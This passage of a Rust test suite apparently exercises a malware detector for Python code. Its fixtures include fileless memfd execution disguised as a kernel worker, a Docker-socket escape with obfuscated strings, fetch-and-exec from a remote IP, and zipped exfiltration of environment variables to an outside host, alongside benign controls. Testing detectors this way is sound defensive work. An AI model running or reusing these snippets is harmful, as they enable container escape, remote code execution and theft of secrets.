    os.execve(path, ["[kworker/1:3]"], {})
"#;
    assert!(
        rules(&run(hidden)).contains(&"MB973"),
        "{:?}",
        rules(&run(hidden))
    );
    let by_fd = plain.replace(
        "os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])",
        "os.fexecve(fd, [\"x\"], {})",
    );
    assert!(rules(&run(&by_fd)).contains(&"MB973"));
    let buffer = plain.replace(
        "os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])",
        "os.lseek(fd, 0, 0)",
    );
    assert!(!rules(&run(&buffer)).contains(&"MB973"));
    let no_memfd = plain.replace(
        "os.memfd_create(\"x\", 0)",
        "os.open(\"blob.bin\", os.O_RDONLY)",
    );
    assert!(!rules(&run(&no_memfd)).contains(&"MB973"));
}

/// Names hidden by concatenation (`"Privi" + "leged"`) or character codes
/// are read like the literal: the Docker socket and a privileged spec.
/// Downloads through an opener (`build_opener().open`) are downloads, and
/// the environment zipped into a buffer and sent in parts is sent.
#[test]
fn built_strings_openers_and_zipped_environment() {
    let plain = r#"import json, socket
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
spec = {"Image": "alpine", "HostConfig": {"Privileged": True, "Binds": ["/:/h"]}}
s.sendall(json.dumps(spec).encode())
"#;
    let built = r#"import json, socket
_SOCK = "".join(map(chr, [47, 118, 97, 114, 47, 114, 117, 110, 47, 100, 111, 99, 107, 101, 114, 46, 115, 111, 99, 107]))
s = socket.socket(socket.AF_UNIX)
s.connect(_SOCK)
spec = {"Image": "alpine", "HostConfig": {"Privi" + "leged": True, "Binds": ["/" + ":" + "/h"]}}
s.sendall(json.dumps(spec).encode())
"#;
    assert_same(plain, built);
    let fetched = r#"import urllib.request
with urllib.request.urlopen("http://203.0.113.7/fc") as resp:
    exec(resp.read())
"#;
    let opener = r#"import urllib.request
opener = urllib.request.build_opener()
opener.addheaders = [("User-Agent", "fontconfig/2.14")]
with opener.open("http://203.0.113.7/fc") as resp:
    exec(resp.read())
"#;
    assert_same(fetched, opener);
    let sent = r#"import os, http.client
conn = http.client.HTTPSConnection("storage.example.net")
conn.request("PUT", "/x", body=str(dict(os.environ)))
"#;
    let zipped = r#"import os, io, zipfile, http.client
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as zf:
    zf.writestr("env.txt", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
data = buf.getvalue()
parts = [data[i:i + 4096] for i in range(0, len(data), 4096)]
for idx, part in enumerate(parts):
    conn = http.client.HTTPSConnection("storage.example.net")
    conn.request("PUT", f"/x/{idx}", body=part)
"#;
    assert_same(sent, zipped);
    // Controls: a split word that names nothing; the zip of a report.
    let split = built.replace("\"Privi\" + \"leged\"", "\"Read\" + \"only\"");
    let split = split.replace(
        "\"/\" + \":\" + \"/h\"",
        "\"/srv/data\" + \":\" + \"/data\"",
    );
    assert!(!rules(&run(&split)).contains(&"MB921"));
    let report = zipped.replace(
        "\"\\n\".join(f\"{k}={v}\" for k, v in os.environ.items())",
        "\"ok\"",
    );
    assert!(!rules(&run(&report)).contains(&"MB911"));
}

/// Standard base64 with padding, for the tests' encoded scripts.
fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A backup that tars a folder, encrypts the archive with `gpg
/// --symmetric` and deletes the plaintext archive it wrote itself removes
/// no original: not ransomware. Control: the same script deleting the
/// files it walked is.
#[test]
fn own_archive_deleted_after_encrypting_it() {
    let backup = r#"import os, subprocess, tarfile
from pathlib import Path
def make_archive(src, out_dir):
    archive = out_dir / "backup.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for root, dirs, files in os.walk(src):
            for f in files:
                tar.add(Path(root) / f)
    return archive
def encrypt(archive):
    subprocess.run(["gpg", "--symmetric", "--output", str(archive) + ".gpg", str(archive)], check=True)
    archive.unlink()
encrypt(make_archive(Path("data"), Path.home() / "backups"))
"#;
    assert!(
        !rules(&run(backup)).contains(&"MB917"),
        "{:?}",
        rules(&run(backup))
    );
    let originals = backup.replace(
        "                tar.add(Path(root) / f)",
        "                tar.add(Path(root) / f)\n                os.remove(Path(root) / f)",
    );
    assert!(
        rules(&run(&originals)).contains(&"MB917"),
        "{:?}",
        rules(&run(&originals))
    );
}
